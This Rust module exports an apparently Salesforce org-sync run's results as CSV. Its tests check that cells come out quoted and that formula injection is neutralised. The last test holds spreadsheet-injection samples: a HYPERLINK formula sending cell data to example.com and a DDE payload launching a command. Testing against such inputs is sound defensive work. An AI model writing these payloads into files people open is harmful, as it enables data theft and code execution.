//! A run's results as CSV, one line per record of the preview: what was previewed, what happened,
//! the record in both orgs, and the org's words for a failure.

use orgbridge_model::cells::inert;

use crate::preview::Preview;
use crate::run::{RecordResult, RunState};

/// The CSV text (RFC 4180, through the `csv` crate: quotes, commas and line breaks in account
/// text stay inside their cell).
pub fn results_csv(preview: &Preview, state: &RunState) -> String {
    let mut out = csv::Writer::from_writer(Vec::new());
    let _ = out.write_record([
        "Previewed",
        "Result",
        "Account",
        "Source Id",
        "Target Id",
        "Key",
        "Message",
    ]);
    for (n, row) in preview.rows.iter().enumerate() {
        let row = &row;
        let (result, target, message) = match state.results.get(n).cloned().flatten() {
            Some(RecordResult::Created(id)) => ("Created", id.to_string(), String::new()),
            Some(RecordResult::Updated(id)) => ("Updated", id.to_string(), String::new()),
            Some(RecordResult::Deleted(id)) => ("Deleted", id.to_string(), String::new()),
            Some(RecordResult::ChangedInTarget(m)) => ("Not written", target_of(row), m),
            Some(RecordResult::Failed(m)) => ("Failed", target_of(row), m),
            Some(RecordResult::SourceDeleted) => (
                "Not written",
                target_of(row),
                "Deleted in the source after the preview.".into(),
            ),
            None if row.outcome.writes() => ("Not written", target_of(row), String::new()),
            None => ("Skipped", target_of(row), row.problems.join(" ")),
        };
        let _ = out.write_record(
            [
                row.outcome.label(),
                result,
                &row.name,
                row.source_id.as_str(),
                &target,
                row.key.as_deref().unwrap_or_default(),
                &message,
            ]
            .map(inert),
        );
    }
    String::from_utf8(out.into_inner().unwrap_or_default()).unwrap_or_default()
}

fn target_of(row: &crate::preview::Row) -> String {
    row.target_id
        .as_ref()
        .map(|t| t.to_string())
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::preview::{Outcome, Row};
    use salesforce::rest::Record;
    use salesforce::types::RecordId;

    fn row(name: &str, outcome: Outcome) -> Row {
        Row {
            source_id: RecordId::parse("001000000000001").unwrap(),
            name: name.into(),
            key: Some("001000000000001AAA".into()),
            target_id: None,
            target_stamp: None,
            outcome,
            changes: vec![],
            problems: vec!["Code is too long".into()],
            notes: vec![],
            body: Record::new(),
            depth: 0,
        }
    }

    #[test]
    fn account_text_stays_in_its_cell() {
        let preview = Preview {
            rows: [
                row("Acme, \"Best\"\nInc", Outcome::Insert),
                row("Blocked Ltd", Outcome::Blocked),
            ]
            .into_iter()
            .collect(),
            missing_parents: vec![],
            watermark: None,
        };
        let state = RunState {
            batches: vec![],
            results: vec![
                Some(RecordResult::Created(
                    RecordId::parse("001T00000000001").unwrap(),
                )),
                None,
            ],
            calls: 1,
            engine: Default::default(),
            attempt: 0,
        };
        let text = results_csv(&preview, &state);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(&rows[0][2], "Acme, \"Best\"\nInc");
        assert_eq!(&rows[0][1], "Created");
        assert_eq!(&rows[0][4], "001T00000000001IAA");
        assert_eq!(&rows[1][1], "Skipped");
        assert_eq!(&rows[1][6], "Code is too long");
    }

    #[test]
    fn a_cell_a_spreadsheet_would_run_is_written_inert() {
        let formula = r#"=HYPERLINK("https://example.com/?"&C2,"Open")"#;
        let mut blocked = row("-2+3", Outcome::Blocked);
        blocked.problems = vec!["@SUM(A1) is not allowed".into()];
        let preview = Preview {
            rows: [
                row(formula, Outcome::Insert),
                blocked,
                row("\tTabbed", Outcome::Insert),
                row("+1 Plus", Outcome::Insert),
            ]
            .into_iter()
            .collect(),
            missing_parents: vec![],
            watermark: None,
        };
        let state = RunState {
            batches: vec![],
            results: vec![
                Some(RecordResult::Failed("=cmd|' /C calc'!A0".into())),
                None,
                None,
                None,
            ],
            calls: 1,
            engine: Default::default(),
            attempt: 0,
        };
        let text = results_csv(&preview, &state);
        let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(Result::unwrap)
            .collect();
        assert_eq!(&rows[0][2], format!("'{formula}"));
        assert_eq!(&rows[0][6], "'=cmd|' /C calc'!A0", "the org's words too");
        assert_eq!(&rows[1][2], "'-2+3");
        assert_eq!(&rows[1][6], "'@SUM(A1) is not allowed");
        assert_eq!(&rows[2][2], "'\tTabbed");
        assert_eq!(&rows[3][2], "'+1 Plus");
        assert_eq!(&rows[0][3], "001000000000001AAA", "plain cells untouched");
    }
}
